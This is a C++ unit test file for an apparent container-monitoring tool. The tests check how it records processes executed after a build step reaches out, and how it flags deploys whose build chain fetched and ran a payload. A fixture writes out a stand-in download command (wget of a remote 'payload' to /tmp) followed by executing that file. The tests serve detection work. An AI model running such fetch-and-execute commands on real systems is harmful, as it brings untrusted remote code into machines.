// What containers execute once they have reached out.
#include "tracker/executions.h"

#include <catch2/catch_test_macros.hpp>
#include <string>
#include <vector>

#include "unit/tracker/scene.h"

using namespace kilnwatch;
using namespace kilnwatch::test;
using tracker::Executions;
using tracker::MomentKind;

namespace {

ProcessExecuted execution(TimeNs time, const std::string& exe, std::vector<std::string> args = {}) {
  Process process;
  process.pid = 9;
  process.exe = exe;
  process.args = std::move(args);
  return {time, process};
}

// A step that fetched, and what it executed after.
void fetch_and_run(Scene& scene, const std::string& exe) {
  scene.request(1, 100 * kMs);
  scene.learn(BuildStepAnnounced{110 * kMs, {1, 0}, 1, 9, "FROM alpine:3"});
  scene.step(1, 200 * kMs, 2, 'a');
  auto fetcher = scene.process('a', 1001);
  fetcher.args = {"wget", "http://198.51.100.66/payload", "-O", "/tmp/p"};
  scene.see(ProcessExecuted{290 * kMs, fetcher});
  scene.attempt(300 * kMs, 'a', "198.51.100.66", 1);
  scene.see(EgressPayload{310 * kMs, 1, "GET /payload HTTP/1.1\r\nHost: x\r\n\r\n"});
  auto payload = scene.process('a', 1002);
  payload.exe = exe;
  payload.args = {exe};
  scene.see(ProcessExecuted{350 * kMs, payload});
  scene.leave(400 * kMs, 'a');
  scene.learn(BuildImageAnnounced{500 * kMs, {1, 0}, "sha256:" + container('f'), false});
  scene.end(1, 500 * kMs);
}

}  // namespace

TEST_CASE(
    "A file is told once, when the connection is decided; a shell without commands each time") {
  Executions executions;
  CHECK(executions.note("c", execution(10, "/tmp/x")));
  CHECK_FALSE(executions.note("c", execution(11, "/tmp/x")));
  CHECK(executions.note("d", execution(12, "/tmp/x")));
  CHECK(executions.note("c", execution(13, "/bin/sh", {"sh"})));
  CHECK(executions.note("c", execution(14, "/bin/sh", {"sh"})));
  CHECK_FALSE(executions.note("c", execution(15, "/bin/sh", {"sh", "-c", "x"})));
  CHECK_FALSE(executions.note("c", execution(15, "")));
  auto midway = execution(15, "/tmp/y");
  midway.midway = true;
  CHECK_FALSE(executions.note("c", midway));

  CHECK_FALSE(executions.take(10 + tracker::kEgressWait));
  const auto first = executions.take(11 + tracker::kEgressWait);
  REQUIRE(first);
  CHECK(first->kind == MomentKind::kStepExecuted);
  CHECK(first->time == 10);
  CHECK(first->place == "c");
  CHECK(first->executed->exe == "/tmp/x");
  CHECK_FALSE(executions.take(11 + tracker::kEgressWait));
  int rest = 0;
  while (executions.take({})) ++rest;
  CHECK(rest == 3);
}

TEST_CASE("What has no room is counted") {
  Executions executions;
  for (std::size_t n = 0; n < tracker::kMaxExecutions; ++n)
    REQUIRE(executions.note("c", execution(1, "/tmp/" + std::to_string(n))));
  CHECK_FALSE(executions.note("c", execution(1, "/tmp/x")));
  CHECK(executions.refused() == 1);
}

TEST_CASE("A payload that a step executed is part of its build's chain, at the next moment too") {
  for (const bool at_once : {true, false}) {
    Scene scene;
    fetch_and_run(scene, "/tmp/p");
    const TimeNs later = at_once ? 0 : 5000 * kMs;
    scene.created(600 * kMs + later, 'd', "image1:1");
    scene.started(700 * kMs + later, container('d'));
    const auto deploys = scene.of(Rule::kImageDeploy);
    REQUIRE(deploys.size() == 1);
    CHECK(has_reason(deploys[0], "chain-closed"));
    CHECK(has_reason(deploys[0], "payload-executed"));
    REQUIRE(deploys[0].chain);
    CHECK(deploys[0].chain->links[0].connection.destination.ip == "198.51.100.66");
  }
}

TEST_CASE("What comes with the image is no payload") {
  Scene scene;
  fetch_and_run(scene, "/usr/bin/make");
  scene.created(600 * kMs, 'd', "image1:1");
  scene.started(700 * kMs, container('d'));
  CHECK(has_reason(scene.of(Rule::kImageDeploy)[0], "chain-closed"));
  CHECK_FALSE(has_reason(scene.of(Rule::kImageDeploy)[0], "payload-executed"));
}
